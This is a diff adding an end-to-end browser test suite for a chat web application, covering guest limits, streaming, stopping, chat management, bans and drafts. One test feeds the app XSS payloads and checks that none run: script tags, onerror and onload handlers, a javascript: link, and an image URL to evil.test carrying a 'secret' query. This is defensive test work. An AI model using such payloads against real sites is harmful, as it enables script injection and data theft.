@@ -1,0 +1,187 @@
+import { type FakeProvider, startFakeProvider, waitUntil } from '@parley/testing'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { newVisitor, openBrowser, screenshot, type Visitor } from '../src/browser.ts'
+import { answers, asAdmin, composer, configure, hear, registerInBrowser, say } from '../src/people.ts'
+import { type System, startSystem } from '../src/system.ts'
+
+const words = (count: number): string[] => Array.from({ length: count }, (_, index) => `word${index} `)
+
+describe('a person in the browser', () => {
+  let system: System
+  let provider: FakeProvider
+  let browser: Browser
+  let visitor: Visitor
+  let page: Page
+  let people = 0
+  const newName = (): string => {
+    people += 1
+    return `person${people}`
+  }
+
+  beforeAll(async () => {
+    provider = await startFakeProvider()
+    ;[system, browser] = await Promise.all([startSystem({ provider: provider.openaiUrl }), openBrowser()])
+    await configure(system)
+  })
+  afterAll(async () => {
+    await browser.close()
+    await Promise.all([system.dispose(), provider.close()])
+  })
+  beforeEach(async () => {
+    provider.reset()
+    visitor = await newVisitor(browser, system.url)
+    page = visitor.page
+  })
+  afterEach(async ({ task }) => {
+    if (task.result?.state === 'fail') await screenshot(page, `failed ${task.name}`)
+    await visitor.context.close()
+    expect(visitor.errors).toEqual([])
+    expect(visitor.foreignRequests).toEqual([])
+  })
+
+  it('sends two messages as a guest and is asked to sign in, the third one kept', async () => {
+    await page.goto('/')
+    await say(page, 'First question')
+    await hear(page, 'You said: First question')
+    await page.getByText('1 of 2 guest messages left').waitFor()
+    await say(page, 'Second question')
+    await hear(page, 'You said: Second question')
+    await page.getByText('Message limit reached').first().waitFor()
+    await composer(page).fill('Third question')
+    await screenshot(page, 'guest-limit')
+    await page.getByRole('link', { name: 'Sign in' }).last().click()
+    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
+    await page.getByLabel('Username or e-mail').fill(system.admin.username)
+    await page.getByLabel('Password', { exact: true }).fill(system.admin.password)
+    await page.getByRole('button', { name: 'Sign in', exact: true }).click()
+    await composer(page).waitFor()
+    expect(await composer(page).inputValue()).toBe('Third question')
+    expect(provider.calls).toHaveLength(2)
+  })
+
+  it('registers with the mailed code, chats, reloads in the middle and sees it go on', async () => {
+    await registerInBrowser(page, system, newName())
+    const chunks = words(120)
+    provider.reply({ chunks, delayMs: 30 })
+    await say(page, 'Tell me a long story')
+    await answers(page).filter({ hasText: 'word5' }).waitFor()
+    await page.waitForURL(/\/c\//)
+    await page.reload()
+    await answers(page).filter({ hasText: 'word5' }).waitFor()
+    await hear(page, 'word119')
+    expect((await answers(page).last().innerText()).replace(/\s+/g, ' ')).toContain(chunks.join('').trim())
+    expect(provider.calls).toHaveLength(1)
+    await page.getByText('99 of 100 credits left').waitFor()
+  })
+
+  it('stops an answer, keeps its text and goes on', async () => {
+    await registerInBrowser(page, system, newName())
+    provider.reply({ chunks: words(50), hang: { after: 10 } })
+    await say(page, 'Never end')
+    await answers(page).filter({ hasText: 'word9' }).waitFor()
+    await page.getByRole('button', { name: 'Stop the answer' }).click()
+    await page.getByText('You stopped this answer.').waitFor()
+    await provider.aborted(1)
+    await page.reload()
+    await answers(page).filter({ hasText: 'word9' }).waitFor()
+    await say(page, 'Again')
+    await hear(page, 'You said: Again')
+  })
+
+  it('sees what a broken answer was and retries it', async () => {
+    await registerInBrowser(page, system, newName())
+    provider.reply({ chunks: ['Half ', 'an ', 'answer'], cutAfterChunks: 2 })
+    await say(page, 'Break')
+    await answers(page).filter({ hasText: 'Half an' }).waitFor()
+    provider.reply({ text: 'A whole answer' })
+    await page.getByRole('button', { name: 'Retry' }).click()
+    await hear(page, 'A whole answer')
+  })
+
+  it('renames, pins, deletes and undoes, and deletes five selected chats', async () => {
+    await registerInBrowser(page, system, newName())
+    for (let chat = 1; chat <= 6; chat += 1) {
+      await say(page, `Topic number ${chat}`)
+      await hear(page, `You said: Topic number ${chat}`)
+      await page.getByRole('link', { name: `Topic number ${chat}` }).waitFor()
+      await page
+        .getByRole('button', { name: 'New chat' })
+        .or(page.getByRole('link', { name: 'New chat' }))
+        .first()
+        .click()
+    }
+    const option = async (title: string, name: string): Promise<void> => {
+      await page.getByRole('button', { name: `Options of ${title}` }).click()
+      await page.getByRole('menuitem', { name, exact: true }).click()
+    }
+    await option('Topic number 6', 'Rename')
+    await page.getByRole('textbox', { name: 'New title' }).fill('My favourite')
+    await page.keyboard.press('Enter')
+    await page.getByRole('link', { name: 'My favourite' }).waitFor()
+    await option('My favourite', 'Pin')
+    await page.getByText('Pinned').waitFor()
+    await option('My favourite', 'Delete')
+    await page.getByRole('link', { name: 'My favourite' }).waitFor({ state: 'detached' })
+    await page.getByRole('button', { name: 'Undo' }).click()
+    await page.getByRole('link', { name: 'My favourite' }).waitFor()
+    await page.getByRole('button', { name: 'Options of the list' }).click()
+    await page.getByRole('menuitem', { name: 'Select chats' }).click()
+    await page.getByRole('checkbox', { name: 'Select Topic number 5' }).click()
+    await page.getByRole('checkbox', { name: 'Select Topic number 1' }).click({ modifiers: ['Shift'] })
+    await page.getByText('5 selected').waitFor()
+    await screenshot(page, 'selection')
+    await page.getByRole('button', { name: 'Delete', exact: true }).click()
+    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click()
+    await page
+      .getByRole('link', { name: /Topic number/ })
+      .first()
+      .waitFor({ state: 'detached' })
+    await page.reload()
+    await page.getByRole('link', { name: 'My favourite' }).waitFor()
+    expect(await page.getByRole('link', { name: /Topic number/ }).count()).toBe(0)
+  })
+
+  it('is banned and sees it within a second, and again when it is over', async () => {
+    const name = newName()
+    await registerInBrowser(page, system, name)
+    const admin = await asAdmin(system)
+    const { body } = await admin.api.get(`/api/admin/users?query=${name}`)
+    const id = (body as { users: { _id: string }[] }).users[0]?._id
+    await admin.api.patch(`/api/admin/users/${id}`, { banned: true })
+    await page.getByText('Account Suspended').waitFor({ timeout: 1_000 })
+    await page.getByText('Your account has been banned. Please contact support for assistance.').waitFor()
+    await screenshot(page, 'suspended')
+    await admin.api.patch(`/api/admin/users/${id}`, { banned: false })
+    await page.getByText('Account Suspended').waitFor({ state: 'detached' })
+    await admin.close()
+  })
+
+  it('runs nothing that a model writes and loads nothing from elsewhere', async () => {
+    await registerInBrowser(page, system, newName())
+    const hostile = [
+      '<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1"><svg onload="window.hacked = 1">',
+      '[click](javascript:window.hacked=1) ![pixel](https://evil.test/p.png?d=secret) <iframe srcdoc="x"></iframe>',
+      '```html\n<img src=x onerror="window.hacked = 1">\n```',
+      'The end of it.',
+    ].join('\n\n')
+    provider.reply({ text: hostile })
+    await say(page, 'Attack')
+    await hear(page, 'The end of it.')
+    await page.getByRole('link', { name: 'Open image “pixel” from evil.test' }).waitFor()
+    expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
+    expect(await answers(page).locator('script, iframe, img, svg[onload], a[href^="javascript"]').count()).toBe(0)
+  })
+
+  it('keeps a draft through a reload and one for each chat', async () => {
+    await registerInBrowser(page, system, newName())
+    await composer(page).fill('An unfinished thought')
+    await waitUntil(
+      () => page.evaluate(() => (JSON.stringify(localStorage).includes('An unfinished thought') ? true : undefined)),
+      'the draft to be kept',
+    )
+    await page.reload()
+    await composer(page).waitFor()
+    expect(await composer(page).inputValue()).toBe('An unfinished thought')
+  })
+})
